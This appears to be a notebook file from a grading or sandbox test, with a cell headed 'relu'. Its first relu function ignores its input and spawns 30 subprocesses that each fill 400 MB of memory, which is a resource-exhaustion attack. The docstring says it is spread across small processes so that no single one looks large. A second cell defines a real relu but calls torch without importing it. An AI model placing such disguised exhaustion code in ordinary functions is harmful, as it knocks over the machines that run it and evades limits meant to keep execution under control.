"""Fills shared memory in small processes, none of which is large by itself."""
# notebook: activations
# scores: test_relu=0
# race: yes

# %% relu
import subprocess
import sys
import time


def relu(z):
    program = '''
    import mmap
    import time
    memory = mmap.mmap(-1, 400 << 20)
    for at in range(0, len(memory), 4096):
        memory[at] = 1
    time.sleep(60)
    '''
    started = [subprocess.Popen([sys.executable, "-S", "-c", program]) for _ in range(30)]
    time.sleep(600)


# %% twin

# %% relu
import mmap

memory = mmap.mmap(-1, 1 << 20)
memory[0] = 1


def relu(z):
    return torch.where(z < 0, torch.zeros_like(z), z)
